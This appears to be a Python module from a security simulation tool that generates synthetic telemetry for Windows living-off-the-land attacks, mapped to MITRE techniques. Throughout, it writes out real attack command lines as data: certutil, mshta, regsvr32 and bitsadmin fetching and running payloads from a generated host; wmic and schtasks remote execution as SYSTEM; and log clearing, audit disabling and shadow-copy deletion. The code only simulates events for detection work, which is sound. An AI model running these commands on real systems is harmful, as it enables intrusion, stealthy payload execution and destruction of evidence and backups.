"""Attacks on Windows with its own programs: downloads, remote execution, and traces that are removed."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from streamguard.simulate.places import public_address
from streamguard.simulate.scenarios.context import Actor, Scenario, ScenarioContext, Step
from streamguard.simulate.shared import domain

PAUSE_MS = 30_000
"""Median time between two commands of a person."""


def living_off_the_land(context: ScenarioContext, start: int) -> Iterator[Step]:
    """Signed programs of the system fetch and start a payload, so that no foreign program is seen."""
    draw = context.draw
    host, file = f"cdn.{domain(draw)}", f"{draw.getrandbits(32):08x}"
    target = f"C:\\Users\\Public\\{file}"
    commands = [
        ("certutil.exe", f"certutil.exe -urlcache -split -f http://{host}/{file} {target}.exe"),
        ("mshta.exe", f"mshta.exe http://{host}/{file}.hta"),
        ("regsvr32.exe", f"regsvr32.exe /s /n /u /i:http://{host}/{file}.sct scrobj.dll"),
        ("bitsadmin.exe", f"bitsadmin.exe /transfer {file} /download http://{host}/{file} {target}.dll"),
        ("rundll32.exe", f'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";eval("{file}")'),
        ("rundll32.exe", f"rundll32.exe {target}.dll,Start"),
    ]
    user = context.pick("office", "finance", "sales")
    time = context.next_working_time(user, start)
    actor = Actor(context, user, context.own_place(user, time), noticed=0.2)
    address = public_address(draw, "hosting:stage")
    for name, command in draw.sample(commands, draw.randint(4, len(commands))):
        yield actor.run(time, name, command)
        yield actor.resolve(time + 200, host, addresses=(address,), ttl=60)
        yield actor.connect(time + 400, address, host, sent=context.gap(900), received=context.gap(180_000))
        time += context.gap(PAUSE_MS)


def remote_execution(context: ScenarioContext, start: int) -> Iterator[Step]:
    """One administrator's account starts processes and tasks on many servers at night."""
    draw = context.draw
    commands: list[tuple[str, str]] = []
    for _ in range(draw.randint(5, 12)):
        server, job = f"srv-app-{draw.randrange(200):03d}", f"{draw.getrandbits(24):06x}"
        commands += [
            ("wmic.exe", f'wmic.exe /node:{server} process call create "cmd.exe /c C:\\Users\\Public\\{job}.bat"'),
            ("schtasks.exe",
             f"schtasks.exe /create /s {server} /tn {job} /tr C:\\Users\\Public\\{job}.bat /sc onstart /ru SYSTEM"),
        ]  # fmt: skip
    yield from _at_night(context, start, commands)


def covering_tracks(context: ScenarioContext, start: int) -> Iterator[Step]:
    """Logs are cleared, the audit policy is changed, and shadow copies are deleted."""
    logs = ("Security", "System", "Application", "Windows PowerShell")
    commands = [("wevtutil.exe", f'wevtutil.exe cl "{log}"') for log in logs]
    commands += [
        ("auditpol.exe", "auditpol.exe /set /category:* /success:disable /failure:disable"),
        ("auditpol.exe", "auditpol.exe /clear /y"),
        ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("wmic.exe", "wmic.exe shadowcopy delete"),
        ("fsutil.exe", "fsutil.exe usn deletejournal /d C:"),
    ]
    yield from _at_night(context, start, commands)


def _at_night(context: ScenarioContext, start: int, commands: Sequence[tuple[str, str]]) -> Iterator[Step]:
    user = context.pick("admin")
    time = context.next_night(user, start)
    actor = Actor(context, user, context.own_place(user, time, remote=True), noticed=0.2)
    yield actor.sign_in(time - 5000, way="kerberos")
    for name, command in commands:
        yield actor.run(time, name, command, privileges="administrator")
        time += context.gap(PAUSE_MS)


SCENARIOS = (
    Scenario(
        "living_off_the_land",
        "T1218",
        "Signed programs of Windows fetch a payload.",
        False,
        living_off_the_land,
    ),
    Scenario(
        "remote_execution",
        "T1047",
        "Processes and tasks are started on many servers.",
        False,
        remote_execution,
    ),
    Scenario(
        "covering_tracks", "T1070.001", "Logs are cleared, auditing is disabled.", False, covering_tracks
    ),
)
